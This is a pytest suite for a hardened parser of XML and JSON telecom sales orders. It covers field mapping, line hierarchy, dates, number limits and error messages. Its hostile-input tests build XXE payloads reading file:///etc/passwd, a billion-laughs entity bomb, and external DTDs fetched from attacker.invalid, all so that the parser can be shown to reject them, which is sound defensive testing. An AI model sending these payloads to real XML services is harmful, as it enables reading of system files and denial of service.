"""The hardened inbound parser: samples, field mapping, hierarchy, and hostile documents."""

from __future__ import annotations

import codecs
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import o2a.inbound as inbound
from o2a.errors import InputError
from o2a.inbound import CC_NS, MAX_DEPTH, MAX_DOCUMENT_BYTES, SO_NS, parse_order, read_order_file
from o2a.models import MAX_ORDER_LINES, CustomerOrder, FulfillmentMode, ServiceActionCode

SAMPLES = Path(__file__).resolve().parent.parent / "samples"


def utc(
    year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0
) -> datetime:
    return datetime(year, month, day, hour, minute, second, tzinfo=UTC)


def ebm(
    lines: str,
    *,
    ident: str | None = None,
    header: str = "",
    root: str | None = None,
    so_ns: str = SO_NS,
) -> bytes:
    """A small ProcessSalesOrderFulfillmentEBM around the given SalesOrderLine elements."""
    root = root or "ProcessSalesOrderFulfillmentEBM"
    if ident is None:
        ident = (
            "<cc:BusinessComponentID>1-T-REV</cc:BusinessComponentID><cc:ID>T-1</cc:ID>"
            "<cc:Revision><cc:Number>2</cc:Number></cc:Revision>"
        )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<so:{root} xmlns:so="{so_ns}" xmlns:cc="{CC_NS}">'
        f"<cc:EBMHeader><cc:EBMID>m-1</cc:EBMID></cc:EBMHeader>"
        f"<so:DataArea><so:ProcessSalesOrderFulfillment>"
        f"<cc:Identification>{ident}</cc:Identification>{header}{lines}"
        f"</so:ProcessSalesOrderFulfillment></so:DataArea></so:{root}>"
    ).encode()


def so_line(
    line_id: str,
    bcid: str | None = None,
    *,
    parent: str | None = None,
    root: str | None = None,
    item: str = "",
    extra: str = "",
) -> str:
    ident = (f"<cc:BusinessComponentID>{bcid}</cc:BusinessComponentID>" if bcid else "") + (
        f"<cc:ID>{line_id}</cc:ID>" if line_id else ""
    )
    parts = [f"<so:SalesOrderLine><cc:Identification>{ident}</cc:Identification>"]
    if parent:
        parts.append(
            "<so:ParentSalesOrderLineIdentification><cc:BusinessComponentID>"
            f"{parent}</cc:BusinessComponentID></so:ParentSalesOrderLineIdentification>"
        )
    if root:
        parts.append(
            "<so:RootParentSalesOrderLineIdentification><cc:BusinessComponentID>"
            f"{root}</cc:BusinessComponentID></so:RootParentSalesOrderLineIdentification>"
        )
    parts.append(f"{extra}<cc:ItemReference>{item}</cc:ItemReference></so:SalesOrderLine>")
    return "".join(parts)


OFFER_ITEM = "<cc:Name>Offer</cc:Name><cc:TypeCode>OFFER</cc:TypeCode>"


def rejected(data: bytes) -> str:
    with pytest.raises(InputError) as info:
        parse_order(data)
    return str(info.value)


# --- the samples ------------------------------------------------------------------------


def test_triple_play_header() -> None:
    order = read_order_file(SAMPLES / "triple_play.xml")
    assert order.order_number == "TP-1001"
    assert order.revision == 1
    assert order.revision_id == "1-8F2K-REV1"
    assert order.priority == 5
    assert order.customer_account == "CA-100245"
    assert order.order_date == utc(2026, 1, 10, 14, 32, 5)
    assert order.requested_delivery_date == utc(2026, 1, 15, 9, 0)
    assert order.fulfillment_mode is FulfillmentMode.DELIVER
    assert order.type_code == "SALES ORDER"
    assert order.status_code == "OPEN"
    assert len(order.lines) == 12


def test_triple_play_hierarchy_resolves_component_ids_to_line_ids() -> None:
    order = read_order_file(SAMPLES / "triple_play.xml")
    parents = {line.id: (line.parent_id, line.root_id) for line in order.lines}
    assert parents["1"] == (None, None)
    assert parents["1.1"] == ("1", "1")
    assert parents["1.1.1"] == ("1.1", "1")
    assert parents["1.2.2"] == ("1.2", "1")
    assert parents["1.3.3"] == ("1.3", "1")
    assert parents["1.4"] == ("1", "1")
    by_id = {line.id: line for line in order.lines}
    assert by_id["1.1.1"].business_component_id == "1-8F2K-111"


def test_triple_play_items_classes_and_specs() -> None:
    by_id = {line.id: line for line in read_order_file(SAMPLES / "triple_play.xml").lines}
    # structural lines: type code only; PermittedTypeCode is not a product class
    assert by_id["1"].item.type_code == "OFFER"
    assert by_id["1"].item.product_class is None
    assert by_id["1.2"].item.type_code == "SERVICE BUNDLE"
    assert by_id["1.2"].item.product_class is None
    # PrimaryClassificationCode
    assert by_id["1.1.1"].item.product_class == "Fixed Service Plan Class"
    assert by_id["1.3.3"].item.product_class == "CPE Device Class"
    # ClassificationCode[@listID="FulfillmentItemCode"], no PrimaryClassificationCode
    assert by_id["1.1.2"].item.product_class == "Fixed Service Feature Class"
    assert by_id["1.2.2"].item.product_class == "Mobile Service Feature Class"
    assert by_id["1.4"].item.product_class == "Discount Class"
    assert by_id["1.3.1"].item.name == "Fibre 500"
    assert by_id["1.3.1"].item.type_code == "PRODUCT"
    assert by_id["1.3.1"].item.spec("Speed") == "500 Mbps"
    assert by_id["1.3.1"].item.spec("SimulatedDelay") == "0.2"
    assert by_id["1.1.1"].item.spec("PortingNumber") == "+31201234567"
    assert by_id["1.3.1"].item.spec("NoSuchSpec") is None
    address = by_id["1.3.3"].service_address
    assert address is not None
    assert (address.line_one, address.city, address.postal_code, address.country) == (
        "Keizersgracht 221",
        "Amsterdam",
        "1016 DV",
        "NL",
    )
    assert by_id["1.2.1"].service_address is None
    assert by_id["1.3.1"].requested_delivery_date == utc(2026, 1, 15, 9, 0)
    assert all(line.action is ServiceActionCode.ADD for line in by_id.values())
    assert by_id["1.3.1"].fulfillment_mode is FulfillmentMode.DELIVER


def test_broadband_only_sample() -> None:
    order = read_order_file(SAMPLES / "broadband_only.xml")
    assert order.order_number == "BB-2001"
    assert order.customer_account == "CA-200318"
    assert [(line.id, line.parent_id, line.item.type_code) for line in order.lines] == [
        ("1", None, "OFFER"),
        ("1.1", "1", "SERVICE BUNDLE"),
        ("1.1.1", "1.1", "PRODUCT"),
        ("1.1.2", "1.1", "PRODUCT"),
        ("1.1.3", "1.1", "PRODUCT"),
    ]
    assert [line.item.product_class for line in order.lines[2:]] == [
        "Broadband Service Plan Class",
        "Broadband Service Feature Class",
        "CPE Device Class",
    ]


def test_business_sample_has_200_lines_and_site_addresses() -> None:
    order = read_order_file(SAMPLES / "business_200.xml")
    assert order.order_number == "BUS-3001"
    assert order.priority == 7
    assert len(order.lines) == 200
    assert len({line.id for line in order.lines}) == 200
    sites = [line for line in order.lines if line.item.type_code == "SERVICE BUNDLE"]
    assert len(sites) == 18
    assert all(s.service_address and s.service_address.city for s in sites)
    assert len({s.service_address.city for s in sites if s.service_address}) == 18
    ids = {line.id for line in order.lines}
    assert all(line.parent_id in ids for line in order.lines if line.parent_id is not None)
    assert all(line.item.spec("SimulatedDelay") is None for line in order.lines)
    classes = {line.item.product_class for line in order.lines}
    assert {"Broadband Service Plan Class", "Fixed Service Plan Class", "CPE Device Class"} <= (
        classes
    )


def test_json_sample_is_the_triple_play() -> None:
    from_json = read_order_file(SAMPLES / "triple_play.json")
    from_xml = read_order_file(SAMPLES / "triple_play.xml")
    assert from_json.order_number == "TP-1001-JSON"
    skip = {"order_number", "revision_id"}
    assert from_json.model_dump(exclude=skip) == from_xml.model_dump(exclude=skip)


def test_json_round_trip_of_the_model() -> None:
    order = read_order_file(SAMPLES / "triple_play.xml")
    again = parse_order(order.model_dump_json().encode())
    assert again == order


# --- field mapping on small documents -------------------------------------------------------


def test_primary_classification_wins_over_fulfillment_item_code() -> None:
    item = (
        "<cc:Name>P</cc:Name>"
        '<cc:ClassificationCode listID="FulfillmentItemCode">Mobile Service Plan Class'
        "</cc:ClassificationCode>"
        "<cc:PrimaryClassificationCode>Fixed Service Plan Class</cc:PrimaryClassificationCode>"
        "<cc:TypeCode>product</cc:TypeCode>"
    )
    order = parse_order(ebm(so_line("1", item=item)))
    assert order.lines[0].item.product_class == "Fixed Service Plan Class"
    assert order.lines[0].item.type_code == "PRODUCT"


def test_only_fulfillment_item_code_list_counts() -> None:
    item = (
        '<cc:ClassificationCode listID="PermittedTypeCode">Product</cc:ClassificationCode>'
        '<cc:ClassificationCode listID="Other">Other Class</cc:ClassificationCode>'
        '<cc:ClassificationCode listID="FulfillmentItemCode">  CPE Device Class  '
        "</cc:ClassificationCode>"
    )
    order = parse_order(ebm(so_line("1", item=item)))
    assert order.lines[0].item.product_class == "CPE Device Class"
    only_other = '<cc:ClassificationCode listID="PermittedTypeCode">X</cc:ClassificationCode>'
    order = parse_order(ebm(so_line("1", item=only_other)))
    assert order.lines[0].item.product_class is None


def test_header_defaults_and_revision_number() -> None:
    order = parse_order(ebm(so_line("1", item=OFFER_ITEM)))
    assert order.order_number == "T-1"
    assert order.revision == 2
    assert order.revision_id == "1-T-REV"
    assert order.priority == 5
    assert order.fulfillment_mode is FulfillmentMode.DELIVER
    assert order.customer_account is None
    assert order.order_date is None
    assert order.lines[0].action is ServiceActionCode.ADD


def test_header_fields_read() -> None:
    header = (
        "<so:OrderDateTime>2026-03-01T10:00:00+01:00</so:OrderDateTime>"
        "<so:FulfillmentPriorityCode>9</so:FulfillmentPriorityCode>"
        "<so:FulfillmentModeCode>CANCEL</so:FulfillmentModeCode>"
        "<cc:CustomerPartyReference><cc:CustomerPartyAccountIdentification>"
        "<cc:ID>ACC-7</cc:ID></cc:CustomerPartyAccountIdentification></cc:CustomerPartyReference>"
    )
    order = parse_order(ebm(so_line("1", item=OFFER_ITEM), header=header))
    assert order.priority == 9
    assert order.fulfillment_mode is FulfillmentMode.CANCEL
    assert order.customer_account == "ACC-7"
    assert order.order_date == utc(2026, 3, 1, 9, 0)


def test_line_id_falls_back_to_business_component_id() -> None:
    order = parse_order(ebm(so_line("", "1-ROW-9", item=OFFER_ITEM)))
    assert order.lines[0].id == "1-ROW-9"


def test_action_codes_and_unknown_elements() -> None:
    extra = "<so:ServiceActionCode>-</so:ServiceActionCode><so:Unknown>ignored</so:Unknown>"
    lines = so_line("1", "a", item=OFFER_ITEM) + so_line(
        "2", "b", parent="a", root="a", item=OFFER_ITEM, extra=extra
    )
    order = parse_order(ebm(lines))
    assert order.lines[1].action is ServiceActionCode.NO_CHANGE
    assert order.lines[1].parent_id == "1"


def test_unresolvable_parent_reference_is_kept_for_validation() -> None:
    order = parse_order(ebm(so_line("1", "a", parent="zz", item=OFFER_ITEM)))
    assert order.lines[0].parent_id == "zz"


# --- hostile and broken input ---------------------------------------------------------------

XXE = (
    b'<?xml version="1.0"?>\n'
    b"<!DOCTYPE so:ProcessSalesOrderFulfillmentEBM [\n"
    b'  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
    b'<so:ProcessSalesOrderFulfillmentEBM xmlns:so="' + SO_NS.encode() + b'">'
    b"<so:DataArea>&xxe;</so:DataArea></so:ProcessSalesOrderFulfillmentEBM>"
)

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "' % i + (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10 + b'">\n'
        for i in range(1, 10)
    )
    + b"]>\n<lolz>&lol9;</lolz>"
)

EXTERNAL_DTD = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE so:ProcessSalesOrderFulfillmentEBM SYSTEM "http://attacker.invalid/evil.dtd">\n'
    b'<so:ProcessSalesOrderFulfillmentEBM xmlns:so="' + SO_NS.encode() + b'"/>'
)


def test_xxe_is_rejected() -> None:
    message = rejected(XXE)
    assert "DTD" in message
    assert "root:" not in message


def test_xxe_in_utf16_is_rejected() -> None:
    message = rejected(
        XXE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    )
    assert "DTD" in message


def test_billion_laughs_is_rejected() -> None:
    assert "entity" in rejected(BILLION_LAUGHS).lower()


def test_external_dtd_is_rejected() -> None:
    assert "DTD" in rejected(EXTERNAL_DTD)


def _order_body() -> bytes:
    """The sample order without its XML declaration, to put a prolog in front."""
    return ebm(so_line("1", item=OFFER_ITEM)).split(b"\n", 1)[1]


def test_network_dtd_after_a_long_prolog_is_not_fetched() -> None:
    padding = b"<!--" + b"x" * 8000 + b"-->\n"
    doc = padding + b'<!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">\n' + _order_body()
    message = rejected(doc)
    assert "DTD" in message or "network" in message


@pytest.mark.parametrize("variant", ["after-long-prolog", "utf-16"])
def test_local_external_dtd_is_never_loaded(tmp_path: Path, variant: str) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text("this is not a DTD, so loading it shows up as a content error\n")
    doctype = f'<!DOCTYPE x SYSTEM "{dtd.as_uri()}">\n'.encode()
    if variant == "utf-16":
        doc = (
            (b'<?xml version="1.0" encoding="UTF-16"?>\n' + doctype + _order_body())
            .decode()
            .encode("utf-16")
        )
    else:
        doc = b"<!--" + b"x" * 8000 + b"-->\n" + doctype + _order_body()
    message = rejected(doc)
    assert "external subset" not in message
    assert "DTD" in message


def test_not_well_formed() -> None:
    message = rejected(b"<so:ProcessSalesOrderFulfillmentEBM><unclosed>")
    assert message.startswith("not well-formed XML")


@pytest.mark.parametrize("data", [b"", b"   \n\t  "])
def test_empty_document(data: bytes) -> None:
    assert "empty" in rejected(data)


def test_wrong_namespace() -> None:
    message = rejected(ebm(so_line("1", item=OFFER_ITEM), so_ns="urn:example:not-aia"))
    assert "namespace" in message
    assert "urn:example:not-aia" in message


def test_wrong_root() -> None:
    message = rejected(ebm(so_line("1", item=OFFER_ITEM), root="UpdateSalesOrderEBM"))
    assert "root element is UpdateSalesOrderEBM" in message


def test_missing_data_area() -> None:
    doc = f'<so:ProcessSalesOrderFulfillmentEBM xmlns:so="{SO_NS}"/>'.encode()
    assert "DataArea/ProcessSalesOrderFulfillment" in rejected(doc)


def test_missing_order_number() -> None:
    data = (SAMPLES / "triple_play.xml").read_bytes()
    # only the direct Identification/ID is the order number, not ApplicationObjectKey/ID
    broken = data.replace(b"<corecom:ID>TP-1001</corecom:ID>", b"", 1)
    assert broken != data
    assert "missing order number" in rejected(broken)


def test_non_numeric_revision() -> None:
    data = (SAMPLES / "triple_play.xml").read_bytes()
    broken = data.replace(
        b"<corecom:Number>1</corecom:Number>", b"<corecom:Number>two</corecom:Number>"
    )
    assert broken != data
    message = rejected(broken)
    assert "Revision/Number" in message
    assert "'two'" in message


def test_priority_out_of_range() -> None:
    header = "<so:FulfillmentPriorityCode>12</so:FulfillmentPriorityCode>"
    assert "FulfillmentPriorityCode must be 0..9, got '12'" in rejected(
        ebm(so_line("1", item=OFFER_ITEM), header=header)
    )


def test_bad_date() -> None:
    header = "<so:OrderDateTime>next tuesday</so:OrderDateTime>"
    message = rejected(ebm(so_line("1", item=OFFER_ITEM), header=header))
    assert "OrderDateTime" in message
    assert "next tuesday" in message


def test_bad_service_action_code() -> None:
    extra = "<so:ServiceActionCode>REPLACE</so:ServiceActionCode>"
    assert "action" in rejected(ebm(so_line("1", item=OFFER_ITEM, extra=extra)))


def test_order_without_lines() -> None:
    assert "no SalesOrderLine" in rejected(ebm(""))


def test_line_without_id() -> None:
    lines = so_line("1", item=OFFER_ITEM) + so_line("", item=OFFER_ITEM)
    assert "SalesOrderLine[2]" in rejected(ebm(lines))


def test_malformed_json() -> None:
    message = rejected(b'{"order_number": "X", ')
    assert message.startswith("malformed JSON")


def test_json_missing_field() -> None:
    data = json.loads((SAMPLES / "triple_play.json").read_bytes())
    del data["order_number"]
    message = rejected(json.dumps(data).encode())
    assert "order_number" in message
    assert message.startswith("invalid order")


def test_json_unknown_field() -> None:
    data = json.loads((SAMPLES / "triple_play.json").read_bytes())
    data["lines"][0]["colour"] = "blue"
    assert "colour" in rejected(json.dumps(data).encode())


def test_json_without_lines() -> None:
    assert "lines" in rejected(b'{"order_number": "X", "lines": []}')


def test_oversized_bytes() -> None:
    assert "limit" in rejected(b" " * (MAX_DOCUMENT_BYTES + 1))


def test_oversized_file(tmp_path: Path) -> None:
    path = tmp_path / "big.xml"
    path.write_bytes(b"<a>" + b" " * (MAX_DOCUMENT_BYTES - 6) + b"</a>")
    assert path.stat().st_size == MAX_DOCUMENT_BYTES + 1
    with pytest.raises(InputError) as info:
        read_order_file(path)
    assert "limit" in str(info.value)
    assert str(path) in str(info.value)


def test_huge_sparse_file_rejected_by_size_without_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "sparse.xml"
    with path.open("wb") as f:
        f.truncate(40 * 1024 * 1024)

    def must_not_run(*args: object, **kwargs: object) -> CustomerOrder:
        raise AssertionError("the oversized document was read or parsed")

    monkeypatch.setattr(inbound, "parse_order", must_not_run)
    monkeypatch.setattr(Path, "read_bytes", must_not_run)
    with pytest.raises(InputError) as info:
        read_order_file(path)
    assert "40.0 MiB" in str(info.value)
    assert "limit" in str(info.value)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(InputError) as info:
        read_order_file(tmp_path / "nope.xml")
    assert "nope.xml" in str(info.value)


def test_file_errors_name_the_file(tmp_path: Path) -> None:
    path = tmp_path / "broken.xml"
    path.write_bytes(b"<oops")
    with pytest.raises(InputError) as info:
        read_order_file(path)
    assert str(info.value).startswith(f"{path}: not well-formed XML")


def test_too_deep_nesting() -> None:
    deep = "<x>" * (MAX_DEPTH + 10) + "</x>" * (MAX_DEPTH + 10)
    message = rejected(ebm(so_line("1", item=OFFER_ITEM + deep)))
    assert f"deeper than {MAX_DEPTH}" in message


def test_very_deep_nesting_rejected_by_libxml2_limit() -> None:
    assert "depth" in rejected(b"<a>" * 400 + b"</a>" * 400).lower()


def test_too_deep_json_nesting() -> None:
    assert "JSON" in rejected(b'{"order_number": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")


def test_json_huge_integer() -> None:
    doc = b'{"order_number": "X", "revision": ' + b"7" * 5000 + b', "lines": []}'
    rejected(doc)


# --- dates: every one carries its time zone ----------------------------------------------------

LINE_DATE = (
    "<so:SalesOrderSchedule><so:RequestedDeliveryDateTime>{}</so:RequestedDeliveryDateTime>"
    "</so:SalesOrderSchedule>"
)


@pytest.mark.parametrize(
    ("header", "extra", "element"),
    [
        ("<so:OrderDateTime>{}</so:OrderDateTime>", "", "OrderDateTime"),
        (
            "<so:RequestedDeliveryDateTime>{}</so:RequestedDeliveryDateTime>",
            "",
            "RequestedDeliveryDateTime",
        ),
        ("", LINE_DATE, "SalesOrderLine[1]/RequestedDeliveryDateTime"),
    ],
)
@pytest.mark.parametrize("value", ["2026-03-01T10:00:00", "2026-03-01"])
def test_xml_date_without_time_zone_is_refused(
    header: str, extra: str, element: str, value: str
) -> None:
    doc = ebm(so_line("1", item=OFFER_ITEM, extra=extra.format(value)), header=header.format(value))
    message = rejected(doc)
    assert message.startswith(f"{element} has no time zone")
    assert repr(value) in message


@pytest.mark.parametrize("field", ["order_date", "requested_delivery_date", "line"])
def test_json_date_without_time_zone_is_refused(field: str) -> None:
    order: dict[str, object] = {"order_number": "X", "lines": [{"id": "1"}]}
    if field == "line":
        order["lines"] = [{"id": "1", "requested_delivery_date": "2026-03-01T10:00:00"}]
    else:
        order[field] = "2026-03-01T10:00:00"
    message = rejected(json.dumps(order).encode())
    assert "timezone" in message
    assert message.startswith("invalid order:")


def test_dates_with_a_time_zone_are_kept() -> None:
    extra = LINE_DATE.format("2026-03-02T10:00:00-05:00")
    header = "<so:OrderDateTime>2026-03-01T10:00:00Z</so:OrderDateTime>"
    order = parse_order(ebm(so_line("1", item=OFFER_ITEM, extra=extra), header=header))
    assert order.order_date == utc(2026, 3, 1, 10)
    assert order.lines[0].requested_delivery_date == utc(2026, 3, 2, 15)


@pytest.mark.parametrize(
    "value",
    [
        "0001-01-01T00:00:00Z",
        "1969-12-31T23:59:59Z",
        "3000-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
    ],
)
def test_dates_outside_the_order_era_are_refused(value: str) -> None:
    # year 1 underflows "delivery minus duration" in the workflow; 9999-12-31 sleeps forever
    message = rejected(ebm(so_line("1", item=OFFER_ITEM, extra=LINE_DATE.format(value))))
    assert "lines.0.requested_delivery_date" in message
    assert "1970" in message and "3000" in message
    doc = {"order_number": "X", "order_date": value, "lines": [{"id": "1"}]}
    assert "order_date" in rejected(json.dumps(doc).encode())


# --- numbers: strict ASCII digits in XML, JSON integers in JSON, in range ------------------------


def revision_doc(number: str) -> bytes:
    ident = f"<cc:ID>T-1</cc:ID><cc:Revision><cc:Number>{number}</cc:Number></cc:Revision>"
    return ebm(so_line("1", item=OFFER_ITEM), ident=ident)


def priority_doc(code: str) -> bytes:
    header = f"<so:FulfillmentPriorityCode>{code}</so:FulfillmentPriorityCode>"
    return ebm(so_line("1", item=OFFER_ITEM), header=header)


@pytest.mark.parametrize(
    "number", ["1_0", "\uff11\uff12", "+3", "-1", "1.0", "0x1", "1e3", "\u0661"]
)
def test_xml_revision_must_be_ascii_digits(number: str) -> None:
    assert f"Revision/Number must be a whole number, got {number!r}" in rejected(
        revision_doc(number)
    )


@pytest.mark.parametrize("number", ["0", str(2**31), str(2**63), "9" * 5000])
def test_xml_revision_out_of_range(number: str) -> None:
    assert "Revision/Number must be 1..2147483647" in rejected(revision_doc(number))


@pytest.mark.parametrize(
    ("number", "expected"), [("1", 1), ("007", 7), (str(2**31 - 1), 2**31 - 1)]
)
def test_xml_revision_in_range(number: str, expected: int) -> None:
    assert parse_order(revision_doc(number)).revision == expected


@pytest.mark.parametrize("code", ["1_0", "\uff19", "+9", "-0", "10", "9" * 5000])
def test_xml_priority_is_strict(code: str) -> None:
    assert "FulfillmentPriorityCode must be" in rejected(priority_doc(code))


@pytest.mark.parametrize("field", ["revision", "priority"])
@pytest.mark.parametrize("value", ['"3"', '"1_0"', '"\uff13"', "3.0", "true", "null"])
def test_json_numbers_must_be_json_integers(field: str, value: str) -> None:
    doc = f'{{"order_number": "X", "{field}": {value}, "lines": [{{"id": "1"}}]}}'
    assert f"invalid order: {field}: Input should be" in rejected(doc.encode())


@pytest.mark.parametrize(
    ("field", "value"),
    [("revision", 0), ("revision", 2**31), ("revision", 2**63), ("priority", 10), ("priority", -1)],
)
def test_json_numbers_out_of_range(field: str, value: int) -> None:
    doc = {"order_number": "X", field: value, "lines": [{"id": "1"}]}
    assert rejected(json.dumps(doc).encode()).startswith(f"invalid order: {field}: Input should be")


def test_json_integers_in_range_are_read() -> None:
    doc = {"order_number": "X", "revision": 2**31 - 1, "priority": 9, "lines": [{"id": "1"}]}
    order = parse_order(json.dumps(doc).encode())
    assert (order.revision, order.priority) == (2**31 - 1, 9)


# --- the number of lines --------------------------------------------------------------------


def test_line_limit_is_five_thousand() -> None:
    assert MAX_ORDER_LINES == 5_000


@pytest.mark.parametrize("count", [MAX_ORDER_LINES, MAX_ORDER_LINES + 1])
def test_xml_line_limit(count: int) -> None:
    doc = ebm("".join(so_line(str(n), item=OFFER_ITEM) for n in range(count)))
    if count <= MAX_ORDER_LINES:
        assert len(parse_order(doc).lines) == count
    else:
        assert rejected(doc) == (
            f"order has {count} SalesOrderLine elements, over the limit of {MAX_ORDER_LINES}"
        )


@pytest.mark.parametrize("count", [MAX_ORDER_LINES, MAX_ORDER_LINES + 1, 100_000])
def test_json_line_limit(count: int) -> None:
    doc = {"order_number": "X", "lines": [{"id": str(n)} for n in range(count)]}
    if count <= MAX_ORDER_LINES:
        assert len(parse_order(json.dumps(doc).encode()).lines) == count
    else:
        message = rejected(json.dumps(doc).encode())
        assert message.startswith(
            f"invalid order: lines: List should have at most {MAX_ORDER_LINES}"
        )


# --- a DTD in any encoding, and text that would be cut ----------------------------------------

ENTITY_DTD = (
    '<!DOCTYPE so:ProcessSalesOrderFulfillmentEBM [<!ENTITY a "x">'
    '<!ENTITY b SYSTEM "file:///etc/passwd">]>\n'
)


def _with_dtd(encoding: str) -> str:
    doc = ebm(so_line("1", item="<cc:Name>N1[&a;]</cc:Name><cc:TypeCode>&b;</cc:TypeCode>"))
    return doc.decode().replace(
        '<?xml version="1.0" encoding="UTF-8"?>\n',
        f'<?xml version="1.0" encoding="{encoding}"?>\n{ENTITY_DTD}',
    )


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(_with_dtd("UTF-8").encode("utf-8"), id="utf-8"),
        pytest.param(_with_dtd("UTF-16").encode("utf-16-le"), id="utf-16le-no-bom"),
        pytest.param(
            codecs.BOM_UTF16_BE + _with_dtd("UTF-16").encode("utf-16-be"), id="utf-16be-bom"
        ),
        pytest.param(_with_dtd("UTF-16").encode("utf-16-be"), id="utf-16be-no-bom"),
        pytest.param(_with_dtd("UTF-32").encode("utf-32-le"), id="utf-32le-no-bom"),
    ],
)
def test_dtd_is_refused_in_every_encoding(data: bytes) -> None:
    assert rejected(data) == "DTDs and entity declarations are not allowed in an order"


def test_dtd_hidden_from_the_text_check_is_refused_after_parsing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """libxml2 itself reports the DTD, whatever encoding the text check thought it saw."""
    monkeypatch.setattr(inbound, "_decoded", lambda data: "")
    assert "DTD" in rejected(_with_dtd("UTF-16").encode("utf-16-le"))
    assert "DTD" in rejected(_with_dtd("UTF-8").encode())


def test_undeclared_entity_reference_is_refused_not_cut() -> None:
    message = rejected(ebm(so_line("1", item="<cc:Name>N1[&a;]</cc:Name>")))
    assert message.startswith("not well-formed XML: Entity 'a' not defined")


def test_element_inside_a_value_is_refused_not_cut() -> None:
    doc = ebm(so_line("1", item="<cc:Name>Fibre <b>500</b> Mbps</cc:Name>"))
    assert rejected(doc) == "Name must hold text only, not elements"


def test_comments_and_cdata_inside_a_value_keep_all_text() -> None:
    item = "<cc:Name>Fibre<!-- c --> 500<![CDATA[ <Mbps>]]></cc:Name>"
    assert parse_order(ebm(so_line("1", item=item))).lines[0].item.name == "Fibre 500 <Mbps>"


# --- one line, JSON detection ---------------------------------------------------------------


def test_nul_byte_gives_one_line() -> None:
    message = rejected(b"<a>\x00</a>")
    assert message == (
        "not well-formed XML: Invalid character: Char 0x0 out of allowed range, line 1, column 4"
    )


@pytest.mark.parametrize("doc", [b'[{"order_number": "X", "lines": [{"id": "1"}]}]', b"  \n[]"])
def test_top_level_json_array_is_named_json(doc: bytes) -> None:
    assert rejected(doc) == "a JSON order must be an object, not list"


def test_malformed_json_says_where_once() -> None:
    assert rejected(b'{"a": "\x00"}') == (
        "malformed JSON: Invalid control character at (line 1, column 8)"
    )


def test_user_text_in_a_message_is_escaped() -> None:
    doc = b'{"order_number": "X", "lines": [{"id": "1", "a\\nb\\u2028c": 1}]}'
    message = rejected(doc)
    assert message == "invalid order: lines.0.a\\nb\\u2028c: Extra inputs are not permitted"


def test_file_name_in_a_message_is_escaped(tmp_path: Path) -> None:
    path = tmp_path / "two\nlines.xml"
    path.write_bytes(b"<oops")
    with pytest.raises(InputError) as info:
        read_order_file(path)
    assert len(str(info.value).splitlines()) == 1
    assert "two\\nlines.xml: not well-formed XML" in str(info.value)


@settings(
    max_examples=300, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
)
@given(
    st.one_of(
        st.binary(max_size=2048),
        st.binary(max_size=512).map(lambda b: b"{" + b),
        st.binary(max_size=512).map(lambda b: b"[" + b),
        st.binary(max_size=512).map(lambda b: b"<?xml version='1.0'?><" + b),
        st.text(max_size=512).map(lambda t: ("<so:x>" + t).encode()),
        st.text(max_size=512).map(lambda t: ebm(so_line("1", item=OFFER_ITEM), header=t)),
        st.recursive(
            st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
            lambda inner: (
                st.lists(inner, max_size=4)
                | st.dictionaries(st.text(max_size=20), inner, max_size=4)
            ),
            max_leaves=20,
        ).map(
            lambda doc: json.dumps(
                {"order_number": "X", "lines": [{"id": "1", "item": doc}]}
            ).encode()
        ),
        st.dictionaries(st.text(max_size=20), st.text(max_size=20), max_size=3).map(
            lambda line: json.dumps({"order_number": "X", "lines": [{"id": "1", **line}]}).encode()
        ),
    )
)
def test_arbitrary_bytes_raise_only_input_error_of_one_line(data: bytes) -> None:
    try:
        order = parse_order(data)
    except InputError as exc:
        assert len(str(exc).splitlines()) == 1, str(exc)
    else:
        assert isinstance(order, CustomerOrder)
